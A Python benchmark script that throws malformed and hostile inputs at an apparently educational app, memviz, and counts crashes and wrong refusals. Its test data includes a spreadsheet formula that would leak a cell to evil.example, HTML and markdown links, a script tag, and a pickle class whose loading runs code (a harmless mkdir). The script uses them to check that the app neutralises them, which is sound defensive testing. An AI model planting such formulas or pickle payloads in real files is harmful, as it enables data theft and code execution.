"""Throw bad inputs at memviz and count how many produce a traceback (target: 0).

    python benchmarks/bad_inputs.py [--quick]

Command-line flags and hand-edited config.json files go through `memviz.cli.main` in-process
(a traceback = an exception escaping the guard, or "Traceback" on stderr, or an exit code other
than 2); links go to every page through Streamlit's AppTest (a traceback = an exception element,
or an uncaught exception in the run); a few also go through `python -m memviz` as a student would
type them. Issue 31's hostile inputs come on top: CSV files (a cell inf, a missing or numeric
date column, repeated dates, a constant series), --out folders that cannot be written (a file
as a parent, /proc, a read-only folder) on every command, a read-only run store, links with
non-ASCII digits and markdown in them, and user text (a column named like a formula or like
HTML) followed into figures and every CSV the app writes. A case that exits 0 instead of being
refused counts as "silent", one that exits 1 (not 2) as "wrong exit code".
Prints one line per kind and a total.
"""

from __future__ import annotations

import argparse
import contextlib
import io
import json
import re
import subprocess
import sys
import tempfile
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from memviz.cli import main  # noqa: E402
from memviz.config import DEFAULT, ConfigError, RunConfig  # noqa: E402

BAD_VALUES = [20.5, "20", True, None, [], {}, -1, 10**9, "abc", 1e308]
FIELDS = [("task", "seq_len"), ("task", "name"), ("task", "n_symbols"), ("model", "hidden"),
          ("model", "arch"), ("model", "init"), ("train", "steps"), ("train", "lr"),
          ("train", "seed"), ("train", "batch"), ("train", "device"), ("train", "clip")]
RAW_FILES = [b"\xff\xfe\x00", b"[" * 100_000, b'{"a":' * 50_000, b"{", b"", b"null", b"[1,2]",
             b'{"task": 5}', b'{"lr": NaN}', b'{"view": "abc"}', b'{"view": {"t": null}}',
             b'{"view": {"t": "abc"}}', b'{"view": {"unit": -1}}', b" " * (2 << 20),
             b'{"task": {"seq_len": ' + b"9" * 5000 + b"}}", b'{"zzz": 1}']
FLAGS = [
    ["train", "--seq-len", "20.5", "--out", "{out}"], ["train", "--hidden", "0", "--out", "{out}"],
    ["train", "--hidden", "true", "--out", "{out}"], ["train", "--lr", "nan", "--out", "{out}"],
    ["train", "--lr", "5", "--out", "{out}"], ["train", "--steps", "-3", "--out", "{out}"],
    ["train", "--seed", "1.5", "--out", "{out}"], ["train", "--device", "tpu", "--out", "{out}"],
    ["train", "--arch", "cnn", "--out", "{out}"], ["train", "--task", "copy", "--out", "{out}"],
    ["train", "--out", "{file}"], ["train", "--out", "{file}/x"], ["train"], [],
    ["nonsense"], ["export", "--config", "{cfg}", "--out", "{out}", "--formats", ""],
    ["export", "--config", "{cfg}", "--out", "{out}", "--formats", "gif"],
    ["export", "--config", "{dir}", "--out", "{out}"],
    ["export", "--config", "{dir}/missing.json", "--out", "{out}"],
    ["export", "--config", "{cfg}", "--out", "{file}"],
    ["horizon", "--archs", "lstm,lstm", "--out", "{out}"], ["horizon", "--lags", "5,5", "--out",
                                                             "{out}"],
    ["horizon", "--lags", "", "--out", "{out}"], ["horizon", "--lags", "0", "--out", "{out}"],
    ["horizon", "--lags", "5,x", "--out", "{out}"], ["horizon", "--archs", "", "--out", "{out}"],
    ["horizon", "--kernel", "1", "--out", "{out}"], ["horizon", "--dilation", "9", "--out",
                                                     "{out}"],
    ["horizon", "--task", "sine", "--out", "{out}"], ["horizon", "--out", "{file}"],
    ["memnet", "--hops", "4", "--out", "{out}"], ["memnet", "--hops", "0", "--out", "{out}"],
    ["memnet", "--task", "four", "--out", "{out}"], ["memnet", "--steps", "0", "--out", "{out}"],
    ["memnet", "--dim", "1000", "--out", "{out}"], ["memnet", "--lr", "nan", "--out", "{out}"],
    ["memnet", "--train-stories", "5", "--out", "{out}"], ["memnet", "--out", "{file}"],
]
LINKS = {
    "lstm": ["seq_len=900", "seq_len=-5", "hidden=3.5", "lr=0.5", "task=copy", "steps=15",
             "seed=1e3", "task=adding&seq_len=1", "t=abc&seq_len=abc", "hidden=<script>"],
    "gru": ["hidden=true", "steps=20.5", "lr=nan", "seed=-1", "seq_len=" + "9" * 50],
    "rnn": ["seq_len=-5", "lr=inf", "hidden=", "task=SINE%00", "steps=9999"],
    "gates": ["lr=true", "task=sine&seq_len=1", "hidden=0", "steps=abc", "seed=10001"],
    "cnn": ["c1=3", "steps=20.5", "kernel=4", "pool=maybe", "batch=7", "lr=abc"],
    "documents": ["hidden=1000", "seq_len=0", "task=x", "steps=5", "seed=nope"],
    "horizon": ["archs=lstm,lstm&lags=5&steps=50", "lags=5,5,999", "archs=mlp", "steps=75",
                "kernel=99", "dilation=0", "lags=" + ",".join(["5"] * 100), "task=sine"],
    "memnet": ["hops=4", "task=four", "steps=20.5", "encoding=xml", "temporal=maybe",
               "story=0", "story_task=all", "t=abc&unit=9", "seed=-1", "tying=" + "x" * 300],
    "synapses": ["n=true", "alpha=abc", "f=relu", "w0=7", "decay=1", "pattern=draw%2Cx",
                 "steps=5", "seed=-2"],
}


def run_cli(args: list[str]) -> bool:
    """True if the command produced a traceback (or did not exit 2 with one line)."""
    err = io.StringIO()
    try:
        with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
            rc = main(args)
    except BaseException:  # noqa: BLE001 - anything escaping the guard is a traceback
        return True
    return rc != 2 or "Traceback" in err.getvalue() or err.getvalue().count("\n") != 1


def _valid(cfg: dict) -> bool:
    try:
        RunConfig.from_dict(cfg)
    except ConfigError:
        return False
    return True


def config_files(d: Path) -> list[Path]:
    """Hand-edited config.json files: each field set to each bad value, then raw bytes."""
    paths = []
    for part, field in FIELDS:
        for bad in BAD_VALUES:
            cfg = DEFAULT.to_dict()
            cfg[part][field] = bad
            if _valid(cfg):
                continue  # e.g. seed 10**9 or clip 1e308 are allowed: not a bad input
            paths.append(d / f"{part}_{field}_{len(paths)}.json")
            paths[-1].write_text(json.dumps(cfg))
    for i, raw in enumerate(RAW_FILES):
        paths.append(d / f"raw_{i}.json")
        paths[-1].write_bytes(raw)
    return paths


def run_links(quick: bool) -> tuple[int, int]:
    """Every bad link on its page through AppTest: (cases, tracebacks)."""
    from urllib.parse import parse_qsl

    from streamlit import logger
    from streamlit.runtime.pages_manager import PagesManager
    from streamlit.testing.v1 import AppTest

    logger.set_log_level("error")  # AppTest's bare-mode notices are not findings

    original = PagesManager.__init__

    def init(self, *a, **k):  # as a server after its first request (see tests/conftest.py)
        original(self, *a, **k)
        PagesManager.uses_pages_directory = False

    PagesManager.__init__ = init
    cases = tracebacks = 0
    for page, links in LINKS.items():
        for link in links[:2] if quick else links:
            at = AppTest.from_file(str(ROOT / f"pages/{page}.py"), default_timeout=300)
            for k, v in parse_qsl(link, keep_blank_values=True):
                at.query_params[k] = v
            cases += 1
            try:
                at.run()
                tracebacks += bool(at.exception)
            except Exception:  # noqa: BLE001
                tracebacks += 1
    return cases, tracebacks


# ------------------------------------------------------------------ issue 31: hostile input

HTML = '<a href="https://evil.example">click</a><b>bold</b>'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
MARKDOWN = "[click here](https://evil.example) **bold** `code` $x^2$"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def read_only_dir() -> Path:
    """A folder that refuses new entries even to root: sysfs (/sys/fs) when it does, else a
    chmod 555 temporary folder (enough for any other user)."""
    try:
        tempfile.TemporaryDirectory(dir="/sys/fs").cleanup()
    except OSError:
        return Path("/sys/fs")
    d = Path(tempfile.mkdtemp())
    d.chmod(0o555)
    return d


def series_csv(values: list, dates: list | None = None, header: str = "temp") -> str:
    """A small date,<header>,other CSV (one row a value), quoted as a spreadsheet would."""
    import csv

    dates = dates or [f"2020-{1 + i // 28:02d}-{1 + i % 28:02d}" for i in range(len(values))]
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(["date", header, "other"])
    w.writerows([d, v, i] for i, (d, v) in enumerate(zip(dates, values, strict=True)))
    return buf.getvalue()


def hostile_files(d: Path) -> dict[str, Path]:
    """The CSV and config files the hostile command lines read."""
    import math

    wave = [f"{10 * math.sin(i / 5):.3f}" for i in range(60)]
    files = {"ok": series_csv(wave), "inf": series_csv(wave[:7] + ["inf"] + wave[8:]),
             "ninf": series_csv(wave[:20] + ["-inf"] + wave[21:]),
             "dup": series_csv(wave, ["2020-01-01"] * 60), "const": series_csv(["5.0"] * 60)}
    paths = {k: d / f"{k}.csv" for k in files}
    for k, text in files.items():
        paths[k].write_text(text)
    paths["empty_cfg"] = d / "empty.json"
    paths["empty_cfg"].write_text("{}")
    return paths


def hostile_flags(d: Path) -> list[list[str]]:
    """Command lines whose only right answer is a one-line refusal with exit code 2."""
    f = {**{k: str(v) for k, v in hostile_files(d).items()}, "file": str(d / "a_file"),
         "cfg": str(d / "ok.json"), "out": str(d / "out"), "ro": str(read_only_dir())}
    fc = ["forecast", "--epochs", "5", "--window", "3", "--target", "temp"]
    outs = [f"{f['file']}/x", "/proc/memviz-bad-inputs", f["ro"]]
    per_command = [["train", "--steps", "5"], ["text", "--steps", "5"],
                   ["seq2seq", "--attention", "on", "--steps", "5"],
                   [*fc, "--data", f["ok"], "--date-column", "date"],
                   ["sentiment", "--steps", "10"], ["memnet", "--steps", "10"],
                   ["horizon", "--lags", "3", "--steps", "5"],
                   ["export", "--config", f["cfg"], "--formats", "csv"],
                   ["transformer", "--steps", "5"]]
    return [
        *[[*cmd, "--out", out] for cmd in per_command for out in outs],
        [*fc, "--data", f["inf"], "--date-column", "date", "--out", f["out"]],
        [*fc, "--data", f["ninf"], "--date-column", "date", "--out", f["out"]],
        [*fc, "--data", f["ok"], "--date-column", "nope", "--out", f["out"]],
        [*fc, "--data", f["ok"], "--date-column", "other", "--out", f["out"]],
        [*fc, "--data", f["dup"], "--date-column", "date", "--out", f["out"]],
        [*fc, "--data", f["const"], "--date-column", "date", "--out", f["out"]],
        ["forecast", "--epochs", "5", "--extra", "temp_min,temp_min", "--out", f["out"]],
        ["export", "--config", f["cfg"], "--formats", "svg,,svg", "--out", f["out"]],
        ["export", "--config", f["empty_cfg"], "--formats", "csv", "--out", f["out"]],
        ["transformer", "--heads", "3", "--out", f["out"]],
        ["transformer", "--window", "4", "--out", f["out"]],
        ["transformer", "--temperature", "9", "--out", f["out"]],
    ]


def outcome(args: list[str], env: dict[str, str] | None = None) -> str:
    """'ok' (one line on stderr, exit 2), 'traceback', 'silent' (exit 0) or 'exit N'."""
    import os
    from unittest import mock

    err = io.StringIO()
    try:
        with mock.patch.dict(os.environ, env or {}), contextlib.redirect_stderr(err), \
                contextlib.redirect_stdout(io.StringIO()):
            rc = main(args)
    except BaseException:  # noqa: BLE001 - anything escaping the guard is a traceback
        return "traceback"
    if "Traceback" in err.getvalue():
        return "traceback"
    if rc == 0:
        return "silent"
    return "ok" if rc == 2 and err.getvalue().count("\n") == 1 else f"exit {rc}"


def run_hostile_cli(d: Path) -> tuple[int, int, int]:
    """Issue 31's command lines: (cases, tracebacks, not refused in one line with exit 2)."""
    cases = [(args, None) for args in hostile_flags(d)]
    cases.append((["prepare", "--page", "lstm", "--presets", "A counting cell"],
                  {"MEMVIZ_STORE": str(read_only_dir())}))
    results = [outcome(args, env) for args, env in cases]
    for (args, _), r in zip(cases, results, strict=True):
        if r != "ok":
            print(f"    {r}: {' '.join(args)}")
    tb = results.count("traceback")
    print(f"hostile CLI:        {len(cases)} bad inputs, {tb} tracebacks, "
          f"{results.count('silent')} silent exit 0, "
          f"{sum(r.startswith('exit') for r in results)} wrong exit code")
    return len(cases), tb, sum(r != "ok" for r in results)


def csv_cells(data: bytes | str) -> list[str]:
    import csv

    text = data.decode() if isinstance(data, bytes) else data
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def runnable(cell: str) -> bool:
    """A cell a spreadsheet would run as a formula (a plain number such as -1.5 is data)."""
    return cell.startswith(FORMULA_START) and not NUMBER.fullmatch(cell)


def live_markup(fig) -> int:
    """User HTML that plotly would render: the hostile header's tags, unescaped, in the figure."""
    return json.dumps(fig.to_plotly_json(), default=str).count('<a href=\\"https://evil')


def run_user_text(d: Path) -> tuple[int, int]:
    """A CSV whose columns are named like a formula and like HTML, through the forecaster, its
    figures, their CSV export and every other CSV the app writes: (cases, findings)."""
    import math

    from memviz import export
    from memviz.horizon.report import results_csv
    from memviz.horizon.sweep import HorizonConfig, sweep
    from memviz.series import data, figures, forecast, model
    from memviz.text import cellfinder

    cases = findings = negatives = 0
    for header in (FORMULA, HTML, "-1", "@sum(1)", "+cmd", "\tx"):
        wave = [f"{10 * math.sin(i / 5) - 5:.3f}" for i in range(60)]
        series = data.load_upload(series_csv(wave, header=header).encode(), header, "date")
        cfg = forecast.ForecastConfig(series.name, header, window=3, epochs=5)
        run = model.train(cfg)
        for fig in (figures.forecast_vs_truth(run), figures.test_zoom(run)):
            cases += 2
            findings += live_markup(fig) > 0
            cells = csv_cells(export.render(fig, "csv"))
            findings += any(runnable(c) for c in cells)
            negatives += any(c.startswith("'-") for c in cells)  # a number turned into text
    from memviz.series.cli import write_outputs

    write_outputs(run, d)
    results = list(sweep(HorizonConfig(lags=(3,), archs=("rnn",), hidden=4, steps=5, batch=8)))
    for text in ((d / "forecast.csv").read_text(), results_csv(results),
                 cellfinder.table_csv([])):
        cases += 1
        findings += any(runnable(c) for c in csv_cells(text))
    print(f"user text:          {cases} figures and CSV files, {findings} with live HTML or a "
          f"formula cell, {negatives} with a number turned into text")
    return cases, findings + negatives


LINKS_REFUSED = {  # a form would refuse these: the link must be named bad, shown as text
    "text": ["seq_len=\uff12\uff15\uff16&steps=10"],
    "synapses": ["n=\u0663", "n=\u0663&steps=20"],
    "lstm": ["hidden=" + MARKDOWN, "seq_len=\u0662\u0660"],
}


def _markdown(shown: str) -> bool:
    """Whether a message's markdown would draw the hostile text as a link, bold, code or math:
    an unescaped ]( ** ` or $, or a bare https:// (GFM links those even when escaped)."""
    import re as re_

    return bool(re_.search(r"(?<!\\)(\]\(|\*\*|`|\$)", shown)) or bool(
        re_.search(r"https(\\?:)", shown))


def run_refused_links() -> tuple[int, int]:
    """Links that must be refused with the bad-link line, the link's text shown as text:
    (cases, not refused or rendered as markdown)."""
    from streamlit.testing.v1 import AppTest

    cases = bad = 0
    for page, links in LINKS_REFUSED.items():
        for link in links:
            at = AppTest.from_file(str(ROOT / f"pages/{page}.py"), default_timeout=300)
            for part in link.split("&"):
                k, v = part.split("=", 1)
                at.query_params[k] = v
            cases += 1
            try:
                at.run()
            except Exception:  # noqa: BLE001
                bad += 1
                continue
            warned = [w.value for w in at.warning]
            bad += not warned or any(_markdown(w) for w in warned)
    print(f"links to refuse:    {cases} bad inputs, {bad} accepted or shown as markdown")
    return cases, bad


def run_upload_names() -> tuple[int, int]:
    """Unusable uploads named with markdown, on Text and Sentences: the refusal must show the
    name as text (cases, messages that render it as markdown)."""
    from streamlit.testing.v1 import AppTest

    cases = bad = 0
    for page, source, name in (("text", "text_source", MARKDOWN + ".txt"),
                               ("sentences", "sentences_source", MARKDOWN + ".csv")):
        at = AppTest.from_file(str(ROOT / f"pages/{page}.py"), default_timeout=300)
        at.run()
        at.radio(key=source).set_value("upload").run()
        at.file_uploader[0].set_value((name, b"\xff\xfe\x00bad", "text/plain")).run()
        shown = [e.value for e in (*at.error, *at.warning, *at.info)]
        cases += 1
        bad += not shown or any(_markdown(m) for m in shown)
    print(f"upload names:       {cases} bad inputs, {bad} shown as markdown")
    return cases, bad


# ------------------------------------------------------------------ issue 29: your own model

class Mkdir:
    """Unpickling this would make a folder: the benchmark checks that none appears."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self):
        import os

        return (os.mkdir, (self.path,))


def yours_files(d: Path) -> tuple[dict[str, Path], dict[str, Path], Path]:
    """Bad weights files and bad inputs for `inspect` (each beside a good one), and the folder
    a pickle of code would make if it were run."""
    import numpy as np
    import torch
    from safetensors.torch import save as st_save
    from torch import nn

    ran = d / "code_ran"
    torch.manual_seed(0)
    good = nn.LSTM(3, 5, num_layers=2).state_dict()

    def pt(obj) -> bytes:
        buf = io.BytesIO()
        torch.save(obj, buf)
        return buf.getvalue()

    def changed(**kw) -> dict:
        return {**good, **kw}

    import pickle

    weights = {
        "ok.pt": pt(good), "too_big.pt": b"\0" * (50 * 2**20 + 1), "weights.json": b"{}",
        "garbage.pt": b"not a checkpoint", "garbage.safetensors": b"\x08" + b"\0" * 20,
        "code.pt": pt({"weight_ih_l0": Mkdir(str(ran))}),
        "code_raw.pth": pickle.dumps(Mkdir(str(ran)), protocol=2),
        "whole_module.pt": pt(nn.LSTM(3, 5)), "a_list.pt": pt([1, 2, 3]),
        "no_rnn.pt": pt({"fc.weight": torch.ones(2, 3)}),
        "two_rnns.pt": pt({**{f"a.{k}": v for k, v in good.items()},
                           **{f"b.{k}": v for k, v in good.items()}}),
        "missing.pt": pt({k: v for k, v in good.items() if k != "weight_hh_l1"}),
        "shapes.pt": pt(changed(weight_ih_l1=torch.ones(20, 3))),
        "hh_shape.pt": pt(changed(weight_hh_l0=torch.ones(21, 5))),
        "bidirectional.pt": pt(nn.LSTM(3, 5, bidirectional=True).state_dict()),
        "proj.pt": pt(nn.LSTM(3, 5, proj_size=2).state_dict()),
        "nan.safetensors": st_save(changed(weight_hh_l1=torch.full((20, 5), float("nan")))),
        "inf.pt": pt(changed(bias_ih_l0=torch.full((20,), float("inf")))),
        "nine_layers.pt": pt(nn.RNN(1, 1, num_layers=9).state_dict()),
        "memory.pt": pt(nn.LSTM(3, 256, num_layers=4).state_dict()),
    }
    buf = io.BytesIO()
    np.save(buf, np.array([{"a": 1}], dtype=object), allow_pickle=True)
    inputs = {"ok.csv": b"a,b,c\n" + b"0.1,0.2,0.3\n" * 8, "width.csv": b"1,2\n3,4\n",
              "inf.csv": b"1,2,3\n4,inf,6\n", "nan.csv": b"1,2,3\nnan,5,6\n",
              "text.csv": b"\xff\xfe\x00bad", "cell.csv": b"1,2,3\n4,five,6\n",
              "ragged.csv": b"1,2,3\n4,5\n", "empty.csv": b"", "objects.npy": buf.getvalue(),
              "long.csv": b"1,2,3\n" * 1001, "batch.npy": _npy_bytes(np.zeros((2, 4, 3))),
              "sheet.xlsx": b"PK\x03\x04", "long_enough.csv": b"1,2,3\n" * 1000}
    paths = {}
    for group in (weights, inputs):
        for name, data in group.items():
            paths[name] = d / name
            paths[name].write_bytes(data)
    w = {k: paths[k] for k in weights}
    return w, {k: paths[k] for k in inputs}, ran


def _npy_bytes(a) -> bytes:
    import numpy as np

    buf = io.BytesIO()
    np.save(buf, a)
    return buf.getvalue()


def run_yours(d: Path) -> tuple[int, int, int]:
    """`inspect` on every bad weights file (with a good input) and every bad input (with good
    weights): (cases, tracebacks, not refused in one line with exit 2, or code run)."""
    weights, inputs, ran = yours_files(d)
    out = str(d / "yours_out")
    cases = [["inspect", "--weights", str(p), "--input", str(inputs["ok.csv"]), "--out", out]
             for k, p in weights.items() if k not in ("ok.pt", "memory.pt")]
    cases += [["inspect", "--weights", str(weights["ok.pt"]), "--input", str(p), "--out", out]
              for k, p in inputs.items() if not k.startswith(("ok", "long_enough"))]
    cases.append(["inspect", "--weights", str(weights["memory.pt"]), "--input",
                  str(inputs["long_enough.csv"]), "--out", out])
    cases.append(["inspect", "--weights", str(weights["ok.pt"]), "--input",
                  str(inputs["ok.csv"]), "--out", out, "--nonlinearity", "sigmoid"])
    good = {"lesson": "yours", "weights": "ok.pt", "input": "ok.csv", "view": {"t": 1}}
    for k, cfg in enumerate([{**good, "weights": "../ok.pt"}, {**good, "weights": "/etc/x.pt"},
                             {**good, "lesson": "lstm"}, {**good, "input": "ok.xlsx"},
                             {**good, "view": {"t": 0}}, {**good, "view": {"unit": -1}},
                             {**good, "nonlinearity": "sigmoid"}, [good]]):
        (d / f"pack_{k}.json").write_text(json.dumps(cfg))  # a lecture pack's config.json
        cases.append(["inspect", "--config", str(d / f"pack_{k}.json"), "--out", out])
    results = [outcome(args) for args in cases]
    for args, r in zip(cases, results, strict=True):
        if r != "ok":
            print(f"    {r}: {' '.join(args)}")
    tb = results.count("traceback")
    bad = sum(r != "ok" for r in results) + ran.exists()
    print(f"your model (inspect): {len(cases)} bad files, {tb} tracebacks, "
          f"{sum(r != 'ok' for r in results)} not refused in one line with exit 2, "
          f"code run: {'YES' if ran.exists() else 'no'}")
    return len(cases), tb, bad


def run_yours_page(d: Path) -> tuple[int, int, int]:
    """The same bad files uploaded on the "Your model" page (AppTest): each bad weights file
    alone, each bad input beside good weights. Right: one st.error line, no exception, and
    nothing traced (no stepper). Returns (cases, tracebacks, handled wrongly, or code run)."""
    from streamlit.testing.v1 import AppTest

    weights, inputs, ran = yours_files(d)
    cases = [(k, None) for k in weights if k not in ("ok.pt", "memory.pt")]
    cases += [("ok.pt", k) for k in inputs if not k.startswith(("ok", "long_enough"))]
    cases += [("memory.pt", "long_enough.csv")]
    tb = wrong = 0
    for w, x in cases:
        at = AppTest.from_file(str(ROOT / "pages/yours.py"), default_timeout=300).run()
        at.file_uploader(key="yours_weights").set_value((w, weights[w].read_bytes(), "")).run()
        if x is not None and not at.exception:
            at.radio(key="yours_source").set_value("file").run()
            at.file_uploader(key="yours_input_file").set_value(
                (x, inputs[x].read_bytes(), "")).run()
        traced = bool(at.get("bidi_component"))
        if at.exception:
            tb += 1
        if at.exception or len(at.error) != 1 or traced:
            wrong += 1
            print(f"    page: {w} {x or ''}: {len(at.error)} errors, traced={traced}")
    print(f"your model (page):  {len(cases)} bad files, {tb} tracebacks, {wrong} not refused "
          f"in one line, code run: {'YES' if ran.exists() else 'no'}")
    return len(cases), tb, wrong + ran.exists()


def main_(quick: bool, only31: bool = False, only29: bool = False) -> int:
    """Run every kind (or only issue 31's, or only issue 29's) and print the counts."""
    with tempfile.TemporaryDirectory() as tmp:
        d = Path(tmp)
        (d / "a_file").write_text("x")
        (d / "ok.json").write_text(json.dumps(DEFAULT.to_dict()))
        paths = {"out": d / "out", "file": d / "a_file", "cfg": d / "ok.json", "dir": d}
        t0 = time.perf_counter()
        if only29:
            n_yours, tb_yours, bad_yours = run_yours(d)
            n_page, tb_page, bad_page = run_yours_page(d)
            n_yours, tb_yours, bad_yours = n_yours + n_page, tb_yours + tb_page, \
                bad_yours + bad_page
            print(f"issue 29: {n_yours} cases, {tb_yours} tracebacks, {bad_yours} handled "
                  f"wrongly (target 0) in {time.perf_counter() - t0:.0f} s")
            return 0 if bad_yours == 0 else 1
        if only31:
            n_host, tb_host, bad_host = run_hostile_cli(d)
            n_text, bad_text = run_user_text(d)
            n_refused, bad_refused = run_refused_links()
            n_names, bad_names = run_upload_names()
            wrong = bad_host + bad_text + bad_refused + bad_names
            print(f"issue 31: {n_host + n_text + n_refused + n_names} cases, {tb_host} "
                  f"tracebacks, {wrong} handled wrongly (target 0) in "
                  f"{time.perf_counter() - t0:.0f} s")
            return 0 if wrong == 0 else 1
        flags = [run_cli([a.format(**paths) for a in f]) for f in FLAGS]
        print(f"command-line flags: {len(flags)} bad inputs, {sum(flags)} tracebacks")
        files = [run_cli(["export", "--config", str(p), "--out", str(d / "out")])
                 for p in config_files(d)]
        print(f"config.json files:  {len(files)} bad inputs, {sum(files)} tracebacks")
        shell = [subprocess.run([sys.executable, "-m", "memviz", *args], cwd=ROOT, text=True,
                                capture_output=True)
                 for args in (["export", "--config", str(d / "raw_1.json"), "--out", "o"],
                              ["train", "--hidden", "true", "--out", "o"],
                              ["horizon", "--archs", "lstm,lstm", "--out", "o"])]
        bad_shell = sum(p.returncode != 2 or "Traceback" in p.stderr for p in shell)
        print(f"python -m memviz:   {len(shell)} bad inputs, {bad_shell} tracebacks")
        n_links, bad_links = run_links(quick)
        print(f"links (AppTest):    {n_links} bad inputs, {bad_links} tracebacks")
        n_host, tb_host, bad_host = run_hostile_cli(d)
        n_text, bad_text = run_user_text(d)
        n_refused, bad_refused = run_refused_links()
        n_names, bad_names = run_upload_names()
        n_refused, bad_refused = n_refused + n_names, bad_refused + bad_names
        n_yours, tb_yours, bad_yours = run_yours(d)
        n_page, tb_page, bad_page = run_yours_page(d)
        n_yours, tb_yours, bad_yours = n_yours + n_page, tb_yours + tb_page, bad_yours + bad_page
    total = len(flags) + len(files) + len(shell) + n_links + n_host + n_text + n_refused + n_yours
    bad = sum(flags) + sum(files) + bad_shell + bad_links + tb_host + tb_yours
    wrong = bad_host + bad_text + bad_refused + bad_yours
    print(f"total: {total} bad inputs, {bad} tracebacks (target 0); issue 31's "
          f"{n_host + n_text + n_refused} cases: {wrong} handled wrongly (target 0); in "
          f"{time.perf_counter() - t0:.0f} s")
    return 0 if bad == 0 and wrong == 0 else 1


if __name__ == "__main__":
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--quick", action="store_true", help="two links per page")
    ap.add_argument("--issue31", action="store_true", help="only issue 31's hostile inputs")
    ap.add_argument("--issue29", action="store_true",
                    help="only issue 29's bad weights and input files (inspect, the page)")
    args = ap.parse_args()
    sys.exit(main_(args.quick, args.issue31, args.issue29))
